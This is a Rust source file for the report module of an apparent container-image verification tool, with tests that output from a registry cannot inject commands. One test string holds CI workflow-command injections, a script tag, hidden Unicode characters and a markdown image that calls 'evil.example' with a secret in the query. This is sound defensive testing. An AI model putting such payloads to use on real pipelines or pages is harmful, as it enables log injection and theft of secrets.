//! The result of a run, as data: every format is a function of it.

pub(crate) mod affected;
pub mod audit;
#[cfg(test)]
pub(crate) mod example;
pub mod exit;
pub(crate) mod github;
pub(crate) mod headline;
pub(crate) mod hint;
mod hints;
pub mod json;
pub(crate) mod judged;
pub mod judgement;
pub(crate) mod junit;
pub(crate) mod metrics;
pub mod plan;
pub(crate) mod platforms;
pub(crate) mod prune;
pub(crate) mod reason;
pub(crate) mod remedy;
pub(crate) mod scene;
pub(crate) mod sentence;
pub mod text;
pub(crate) mod timestamp;
pub(crate) mod totals;

use std::time::{Duration, SystemTime};

use crate::oci::client::Clients;
use crate::walk::checked::{Checked, Subject};
use crate::walk::rules::Depth;
use crate::walk::stop::Stop;

/// One verification.
#[derive(Debug)]
pub struct Report {
    /// The command that the report is of: `verify`, `repair` or `rebuild`.
    pub command: &'static str,
    /// How blobs were checked.
    pub depth: Depth,
    /// The clients whose word counts.
    pub clients: Clients,
    /// When the run started.
    pub started_at: SystemTime,
    /// How long it took.
    pub duration: Duration,
    /// The repositories, walked.
    pub repositories: Vec<Checked>,
    /// Where each image is, in the order in which they were asked for: the place of its repository,
    /// and its own there.
    pub order: Vec<(usize, usize)>,
    /// Requests sent, token calls included.
    pub requests: u64,
    /// Body bytes received.
    pub bytes: u64,
    /// Why the run ended early, if it did.
    pub stopped: Option<Stop>,
    /// The settle window, when the run's limit did not outlast it, so that no 404 could be
    /// believed.
    pub settling: Option<Duration>,
    /// `dry_run`: nothing was pushed, nothing was asked.
    pub skipped: bool,
    /// `fail_on: never`.
    pub never_fail: bool,
    /// Whether a login of `docker/login-action` may be what the user relied on, and there are no
    /// credentials.
    pub login_not_visible: bool,
    /// The pipeline that was started to rebuild the image.
    pub pipeline: Option<PipelineSummary>,
    /// What to do after the repair or the rebuild: the hint's id and its text.
    pub last_hint: Option<(&'static str, String)>,
    /// What was to be put back, and what was.
    pub plan: Option<plan::Plan>,
    /// The verification before the repair or the rebuild.
    pub before: Option<Box<Report>>,
}

impl Report {
    /// A report of nothing: for a run that only rebuilds, and for one that failed on its settings.
    #[must_use]
    pub fn empty(depth: Depth, started_at: SystemTime) -> Self {
        Self {
            command: "verify",
            depth,
            clients: Clients::CONTAINERD,
            started_at,
            duration: Duration::ZERO,
            repositories: Vec::new(),
            order: Vec::new(),
            requests: 0,
            bytes: 0,
            stopped: None,
            settling: None,
            skipped: false,
            never_fail: false,
            login_not_visible: false,
            pipeline: None,
            last_hint: None,
            plan: None,
            before: None,
        }
    }

    /// The verifications before this one, the last of them first.
    pub fn before(&self) -> impl Iterator<Item = &Report> {
        std::iter::successors(self.before.as_deref(), |report| report.before.as_deref())
    }

    /// Whether no image was asked for.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.order.is_empty()
    }

    /// The image at this place of the order.
    #[must_use]
    pub fn image(&self, place: usize) -> &Subject {
        let (repository, subject) = self.order[place];
        &self.repositories[repository].subjects[subject]
    }

    /// Every image, in the order in which they were asked for.
    pub fn images(&self) -> impl Iterator<Item = &Subject> {
        (0..self.order.len()).map(|place| self.image(place))
    }
}

/// The Woodpecker pipeline that a report names.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PipelineSummary {
    /// Its number in its repository.
    pub number: u64,
    /// Its page, for a person.
    pub url: String,
    /// Its status, or the status of the workflows that decide.
    pub status: String,
}

#[cfg(test)]
mod tests {
    use super::example::{digest, index, manifest, plain, report};
    use super::judgement::Judgement;
    use super::text::Style;
    use super::*;
    use crate::report::example::platform_missing;
    use crate::walk::verdict::Verdict;

    /// Every format's output for a report whose foreign text is `text`.
    fn formats(text: &str) -> [(&'static str, String); 6] {
        let hostile = |content: example::Content| content.found(Verdict::Malformed, 200, text);
        let platform = format!("linux/{text}");
        let mut report = report(&[
            (
                "app:1",
                index(0x10)
                    .with(hostile(example::child(0x20, &platform)))
                    .with(manifest(0x30, &platform)),
            ),
            ("app:2", hostile(plain(0x40))),
        ]);
        report.image_mut(0).findings.push(platform_missing(text));
        report.pipeline = Some(PipelineSummary {
            number: 7,
            url: text.to_owned(),
            status: text.to_owned(),
        });
        for id in report.repositories[0].graph.ids() {
            let kind = report.repositories[0].graph.node(id).kind();
            report.graph_mut().set_document(id, kind, text);
        }
        let judgement = Judgement::of(&report);
        let written = |write: &dyn Fn(&mut dyn std::io::Write) -> std::io::Result<()>| {
            let mut out = Vec::new();
            write(&mut out).unwrap();
            String::from_utf8(out).unwrap()
        };
        let style = Style {
            verbose: true,
            ..Style::default()
        };
        [
            ("text", written(&|out| text::write(&judgement, style, out))),
            (
                "github",
                written(&|out| github::write(&judgement, style, out)),
            ),
            ("json", written(&|out| json::write(&judgement, out))),
            ("junit", written(&|out| junit::write(&judgement, out))),
            (
                "summary",
                written(&|out| github::write_summary(&judgement, out)),
            ),
            (
                "outputs",
                written(&|out| github::write_outputs(&judgement, github::Extras::default(), out)),
            ),
        ]
    }

    #[test]
    fn text_from_a_registry_is_never_a_command() {
        let foreign = "::error::owned\r\n::set-output name=result::passed\n##[error]##vso[task.x]\u{1b}[31m\u{9b}31m\
                       \u{202e}\u{200b}<script>alert(1)</script>|`![x](https://evil.example/a?secret=PLANTED)";
        for (format, output) in formats(foreign) {
            let own = |line: &&str| {
                [
                    "::group::docker.io/library/app:",
                    "::endgroup::",
                    "::error title=",
                ]
                .iter()
                .any(|own| line.starts_with(own))
            };
            let obeyed = output
                .lines()
                .filter(|line| line.trim_start().starts_with("::") && !own(line));
            assert_eq!(obeyed.count(), 0, "{format}: {output}");
            let markup = if format == "summary" {
                output.replace("###", "")
            } else {
                output.clone()
            };
            assert!(!markup.contains("##"), "{format}: {output}");
            assert!(
                !output
                    .chars()
                    .any(|one| one != '\n' && crate::text::escape::is_hidden(one)),
                "{format}: {output}"
            );
            assert!(!output.contains("PLANTED"), "{format}: {output}");
            if ["junit", "summary"].contains(&format) {
                assert!(!output.contains("<script"), "{format}: {output}");
            }
            assert!(format != "summary" || !output.contains("![x]("), "{output}");
        }
    }

    #[test]
    fn a_megabyte_of_foreign_text_is_cut_in_every_format() {
        for (format, output) in formats(&"long ".repeat(200_000)) {
            assert!(output.len() < 20_000, "{format} has {} bytes", output.len());
        }
    }

    #[test]
    fn every_format_names_what_is_broken() {
        for (format, output) in formats("plain")
            .into_iter()
            .filter(|(format, _)| *format != "outputs")
        {
            for name in [0x20, 0x40] {
                assert!(
                    output
                        .replace("&#58;", ":")
                        .replace("<wbr>", "")
                        .contains(digest(name).as_ref()),
                    "{format}: {output}"
                );
            }
        }
    }
}
